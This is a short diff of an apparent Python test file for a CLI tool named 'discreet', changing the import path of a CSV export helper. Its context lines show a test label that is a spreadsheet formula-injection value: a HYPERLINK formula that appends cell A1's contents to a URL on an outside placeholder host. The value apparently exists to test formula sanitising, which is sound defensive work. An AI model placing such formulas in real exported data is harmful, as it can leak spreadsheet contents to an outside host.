@@ -12,7 +12,7 @@ from typer.testing import CliRunner
 
 import discreet as dp
 from discreet.cli import app
-from discreet.result_frames import for_csv
+from discreet.releases.frames import for_csv
 
 LABELS = [
     '=HYPERLINK("https://example.org/?"&A1)',
